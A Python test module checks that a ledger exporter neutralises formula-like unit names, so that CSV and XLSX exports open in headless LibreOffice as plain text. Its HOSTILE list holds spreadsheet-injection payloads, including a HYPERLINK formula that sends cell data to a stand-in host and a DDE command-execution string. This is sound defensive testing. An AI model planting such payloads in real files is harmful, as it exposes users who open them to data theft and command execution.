"""Formula-like values, imported and exported, open in LibreOffice as text: nothing evaluates.

A unit ledger whose names start with `=`, `+`, `-`, `@`, a tab or a CR is imported, exported
as .csv and .xlsx, and each export is opened by LibreOffice (Debian's libreoffice-calc-nogui,
headless, in a profile of its own) and saved again as CSV: every cell must read exactly as
exported, never as a computed result. A control file holding the same values as real formulas
must come out computed, so the probe can tell. Without `soffice` these tests skip with a loud
reason, except under CI=true, where they fail.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from ledger_helpers import ACTOR, KEY, base, csv_file
from openpyxl import Workbook

from collab.graph.sqlite_engine import SqliteStore
from collab.ledgers import exporter
from collab.ledgers.importer import import_ledger, read_ledger
from collab.ledgers.kinds import KINDS
from collab.sheets import guard

HOSTILE = ['=HYPERLINK("http://x/?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=2+2",
           "\r=3+3", "=cmd|' /C calc'!A0"]
CSV_OUT = "csv:Text - txt - csv (StarCalc):44,34,76,1"


def soffice() -> str:
    found = shutil.which("soffice")
    if not found:
        message = "LIBREOFFICE TESTS NOT RUN: soffice is not installed " \
                  "(apt-get install libreoffice-calc-nogui)"
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(message + " (CI=true: they must run)", pytrace=False)
        pytest.skip(message)
    return found


def opened_in_libreoffice(path: Path, work: Path) -> list[list[str]]:
    """The cells of `path` as LibreOffice reads them (converted headless to UTF-8 CSV)."""
    out = work / "out"
    command = [soffice(), "-env:UserInstallation=" + (work / "profile").as_uri(), "--headless",
               "--norestore", "--convert-to", CSV_OUT, "--outdir", str(out), str(path)]
    if path.suffix == ".csv":
        command[4:4] = ["--infilter=CSV:44,34,76,1"]
    subprocess.run(command, check=True, capture_output=True, timeout=300,
                   env={**os.environ, "HOME": str(work)})
    with (out / (path.stem + ".csv")).open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


@pytest.fixture
def exported(sqlite_graph: SqliteStore, tmp_path: Path) -> dict[str, Path]:
    """The hostile unit names imported from a CSV ledger, then exported in both formats."""
    sqlite_graph.write(base)
    rows = [["单位编码", "单位名称", "所属区划代码"]] + \
        [[f"U5326281070{i:02d}", name, "532628107"] for i, name in enumerate(HOSTILE)]
    ledger = read_ledger(csv_file(tmp_path / "单位.csv", rows, "utf-8"))
    sqlite_graph.write(lambda tx: import_ledger(tx, actor=ACTOR, ledger=ledger, key=KEY))
    files = {}
    for fmt in ("csv", "xlsx"):
        files[fmt] = tmp_path / f"units-export.{fmt}"
        sqlite_graph.read(lambda tx, fmt=fmt: exporter.write_ledger(
            files[fmt], KINDS["units"], exporter.export_rows(tx, kind=KINDS["units"]), fmt=fmt))
    return files


def names_column(rows: list[list[str]]) -> dict[str, str]:
    """Unit code -> the name cell, from a sheet in the export layout."""
    header = rows[0]
    return {r[header.index("单位编码")]: r[header.index("单位名称")] for r in rows[1:] if r}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_formulas_stay_text_in_libreoffice(exported: dict[str, Path],
                                                     sqlite_graph: SqliteStore, tmp_path: Path,
                                                     fmt: str) -> None:
    stored = {n.key: n.get("name") for n in sqlite_graph.find("Unit", limit=100).items
              if n.key.startswith("U5326281070")}
    assert len(stored) == len(HOSTILE)
    assert all(name[0] in "=+-@\t\r" for name in stored.values())
    seen = names_column(opened_in_libreoffice(exported[fmt], tmp_path / "lo"))
    for code, name in stored.items():
        assert seen[code] == guard.neutralise(name), \
            (code, name, seen[code])


def test_the_probe_sees_a_formula_evaluate(tmp_path: Path) -> None:
    """The control: real formulas in an xlsx and a csv do come out of LibreOffice computed."""
    book = Workbook()
    book.active.append(["单位编码", "单位名称"])
    book.active.append(["U1", "=1+1"])
    book.save(tmp_path / "control.xlsx")
    csv_file(tmp_path / "control.csv", [["单位编码", "单位名称"], ["U1", "=1+1"]], "utf-8")
    for name in ("control.xlsx", "control.csv"):
        assert names_column(opened_in_libreoffice(tmp_path / name, tmp_path / name[8:]))["U1"] \
            == "2"
